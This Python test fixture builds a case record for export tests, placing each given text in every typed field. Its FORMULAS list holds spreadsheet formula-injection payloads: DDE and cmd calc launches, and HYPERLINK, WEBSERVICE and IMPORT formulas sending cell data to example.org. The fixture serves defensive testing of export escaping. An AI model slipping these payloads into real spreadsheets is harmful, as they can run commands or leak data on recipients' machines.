"""A case made by hand in which every field that a person can type into holds a given text: formulas, fragile markings."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from teardown.case.records import (
    Anchor,
    Answer,
    AnswerStatus,
    Case,
    CaseRecord,
    Decision,
    DrawnRegion,
    Letter,
    MachineProposal,
    QuestionAnswered,
    Questionnaire,
    Rearrangement,
    RearrangementKind,
    ReceivedPhoto,
    Release,
    Signature,
    SupplyStatement,
    Unit,
    UnitLink,
    Verdict,
)
from teardown.export.document import Document, gather_case
from teardown.model import Bom, CaseEvent, Component, Evidence, EvidenceKind, NameStyle, Photo, TableFilter
from tests.export.case import FewFacts, make_case, rectangle, sighting, unknown

START = datetime(2024, 3, 1, 8, 30, tzinfo=UTC)
AS_OF = date(2024, 7, 1)

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "=1+1\t",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "%0A=1+1",
    "|=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")',
    '=IMPORTDATA("http://example.org")',
    '=IMAGE("http://example.org/x.png")',
    "=SUM(1+9)*cmd|' /C calc'!A0",
    "{=1+1}",
    "=1+1;=2+2",
    "=1+1,=2+2",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "=A1&CHAR(10)&B1",
    "==1",
    "=@1",
    "-2+3+cmd|' /C calc'!D2",
    "=INDIRECT(ADDRESS(1,1))",
)
"""Forty texts that a spreadsheet might run: OWASP, "CSV Injection", and what attackers wrap around it."""

FRAGILE = (
    *(f"{n:04d}" for n in (0, 7, 23, 723, 1823, 2034)),
    *(f"0{n}" for n in range(10)),
    *(f"{a}E{b}" for a in ("1", "6", "12", "0", "9") for b in ("10", "80", "5", "308", "0")),
    *(f"{a}-{b}" for a in ("03", "12", "1", "31") for b in ("12", "04", "9")),
    *(f"{a}/{b}" for a in ("1", "12", "31") for b in ("2", "12", "2020")),
    *("MAR1", "SEP2", "OCT4", "DEC31", "JAN-1", "APR 9", "MARCH1", "1MAR", "2-SEP", "MAY5"),
    *("TRUE", "FALSE", "#N/A", "#REF!", "#VALUE!", "NULL", "NaN", "inf", "-inf", "1e5"),
    *("12:30", "1:2:3", "1,5", "1.5", "1.500,00", "1,500", "50%", "$5", "€5", "0x1A"),
    *("１２３", "²³", "1 000", "007 ", "1.0.0", "1e-3", "4G3", "0O0O"),
)
"""A hundred markings that a spreadsheet might take for a number, a date, an error or a truth value."""


def full_record(texts: Sequence[str], folder: Path) -> tuple[CaseRecord, dict[str, Path]]:
    """A case with one of everything per text, the text in every field of it that is typed or read.

    Returns:
        The record, and where the files of its two analysed photos lie.
    """
    made = make_case(folder)
    first, second = made.photos
    components, decisions, signatures, evidence, photos, letters, answers, units = [], [], [], [], [], [], [], []
    for n, text in enumerate(texts):
        place = rectangle(5 + 7 * (n % 50), 5 + 9 * (n // 50), 6, 8)
        said = replace(unknown((text,)), wording=f"reads “{text}”")
        note = Evidence(EvidenceKind.FIRMWARE, text, text, "alpha", text, text, text, second, place, "flash")
        components.append(Component(f"C{n:03d}", (sighting(second, (text, text), said, place),), said, text, (note,), (text,)))
        evidence.append(("unit-0", note))
        units.append(Unit(f"unit-{n}", text, text, text, date(2024, 2, 1), "ab" * 32, UnitLink.SAME_KIND, text, text))
        proposal = MachineProposal(said.level, "alpha", text, 0.5, "1", "2")
        decisions.append(
            Decision(
                f"d{n}",
                "unit-0",
                Anchor(second, place),
                Verdict.UNIDENTIFIED,
                text,
                START + timedelta(minutes=n),
                text,
                marking_as_read=(text,),
                machine=proposal,
            )
        )
        signatures.append(Signature(f"d{n}", f"{text} 2", START + timedelta(hours=9, minutes=n)))
        photo = Photo(f"{text}.jpg", f"{n:064x}", 10, "PNG", 1, 1, camera=text)
        photos.append(ReceivedPhoto(photo, "unit-0", START, text, text, text, ((text, text),)))
        letters.append(Letter(f"letter-{n}", "alpha", "en", text, START, date(2024, 6, 1), date(2024, 4, 1)))
        answers.append(
            Answer(
                f"answer-{n}",
                "alpha",
                text,
                "en",
                AnswerStatus.EXCERPT,
                text,
                text,
                date(2024, 5, 1),
                respondent_digest="cd" * 32,
                answered=(1,),
                supply=SupplyStatement.DENIED,
                parts_confirmed=(text,),
                source=text,
                by_question=(QuestionAnswered(1, text),),
            )
        )
    joined = texts[0]
    case = Case(
        id="full-case",
        title=joined,
        title_ja=joined,
        concern=joined,
        concern_ja=joined,
        country="JP",
        time_zone="Asia/Tokyo",
        organisations=tuple(texts),
        table=TableFilter(countries=("JP",)),
        name_style=NameStyle.REPORT,
        events=(CaseEvent("ban", date(2019, 10, 9), joined, joined, joined),),
        questionnaires=(Questionnaire("en", joined, joined, tuple(texts)), Questionnaire("ja", joined, joined, tuple(texts))),
        contact=joined,
    )
    bom = Bom("unit-0", tuple(components), made.bom.photos, "0.1.0+test", "abc123")
    analysed = tuple(ReceivedPhoto(a.photo, "unit-0", START, "volunteer-1") for a in made.bom.photos)
    region = DrawnRegion("unit-0", components[0].sightings[0], texts[0], START)
    change = Rearrangement("unit-0", RearrangementKind.MERGE, (Anchor(first, rectangle(0, 0)),), texts[0], START, texts[0])
    record = CaseRecord(
        case,
        tuple(units),
        (*analysed, *photos),
        (bom,),
        tuple(evidence),
        tuple(decisions),
        tuple(signatures),
        regions=(region,),
        rearrangements=(change,),
        letters=tuple(letters),
        answers=tuple(answers),
        releases=(Release("r1", "package", False, "ef" * 32, START - timedelta(days=1), texts[0]),),
        ledger_head="12" * 32,
        ledger_length=7,
    )
    return record, made.photos


def full_document(texts: Sequence[str], folder: Path) -> Document:
    """The same, gathered for the exports."""
    record, photos = full_record(texts, folder)
    return gather_case(record, FewFacts(), photos=photos, as_of=AS_OF)
